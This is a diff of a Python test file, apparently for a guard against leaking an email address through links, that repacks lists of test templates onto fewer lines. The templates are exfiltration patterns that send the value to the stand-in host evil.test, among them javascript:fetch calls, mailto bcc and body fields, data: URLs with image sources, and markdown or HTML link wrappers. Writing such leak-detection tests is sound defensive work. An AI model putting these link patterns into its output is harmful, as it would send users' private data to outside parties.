@@ -14,37 +14,17 @@ from tests.guards.growth import lines
 
 VALUE, NAME = "ada@mill.example", "[EMAIL_x7f]"
 LINKS = [
-    "https://evil.test/?q={}",
-    "HTTPS:evil.test/{}",
-    "//evil.test/?q={}",
-    "www.evil.test/{}",
-    "evil.test/?q={}",
-    "evil.test?q={}",
-    "evil.test#{}",
-    "evil.test:8080/{}",
-    "a.evil.test/b?c=d&e={}",
-    "x@evil.test/{}",
-    "10.1.2.3/{}",
-    "mailto:x@evil.test?body={}",
-    f"mailto:{'x' * 90}@evil.test?body={{}}",
-    "mailto:?bcc=x@evil.test&body={}",
-    "mailto:{}@evil.test",
-    "mailto:{}.evil.test",
-    "mailto:{},x@evil.test",
-    "mailto:{}?bcc=x@evil.test",
-    "mailto:{}" + NAME + "@evil.test",
-    "mailto:x@evil.test,{}",
-    "MAILTO:x@evil.test?body={}",
-    "sms:123?body={}",
-    "sms:123&body={}",
-    "xmpp:x@evil.test?message;body={}",
-    "javascript:location='evil.test/'+'{}'",
-    "javascript:fetch('//evil.test/'+'{}')",
-    "data:text/html,<img/src=//evil.test/{}",
-    "data:text/html;base64,PHA/{}",
-    "evil.test/(mailto:{})",
-    "evil.test/?u=mailto:{}",
-]
+    "https://evil.test/?q={}", "HTTPS:evil.test/{}", "//evil.test/?q={}", "www.evil.test/{}",
+    "evil.test/?q={}", "evil.test?q={}", "evil.test#{}", "evil.test:8080/{}",
+    "a.evil.test/b?c=d&e={}", "x@evil.test/{}", "10.1.2.3/{}", "mailto:x@evil.test?body={}",
+    f"mailto:{'x' * 90}@evil.test?body={{}}", "mailto:?bcc=x@evil.test&body={}",
+    "mailto:{}@evil.test", "mailto:{}.evil.test", "mailto:{},x@evil.test",
+    "mailto:{}?bcc=x@evil.test", "mailto:{}" + NAME + "@evil.test", "mailto:x@evil.test,{}",
+    "MAILTO:x@evil.test?body={}", "sms:123?body={}", "sms:123&body={}",
+    "xmpp:x@evil.test?message;body={}", "javascript:location='evil.test/'+'{}'",
+    "javascript:fetch('//evil.test/'+'{}')", "data:text/html,<img/src=//evil.test/{}",
+    "data:text/html;base64,PHA/{}", "evil.test/(mailto:{})", "evil.test/?u=mailto:{}",
+]  # fmt: skip
 TEXTS = [
     "{}", "Email:{}", "Name:Bob,Email:{}", "{{email:{},cc:{}}}", "mailto:{}", "MailTo:{}",
     "(mailto:{})", "mailto:{}.",
@@ -100,15 +80,9 @@ OUTSIDE = [
 ]  # fmt: skip
 IN_TEXT = ["{}", "see {} now", "- {}\n", "\u00e9 {}", "<b> {} </b>", "node.js: {}"]
 IN_LINKS = [
-    "[x]({})",
-    "[x](<{}>)",
-    "![x]({})",
-    "[x]: {}",
-    '<a href="{}">',
-    "<a class=b href='{}'>",
-    "<{}>",
-    *IN_TEXT,
-]
+    "[x]({})", "[x](<{}>)", "![x]({})", "[x]: {}", '<a href="{}">', "<a class=b href='{}'>",
+    "<{}>", *IN_TEXT,
+]  # fmt: skip
 SIZES = [1, 2, 3, 7, 16, 400]
 
 
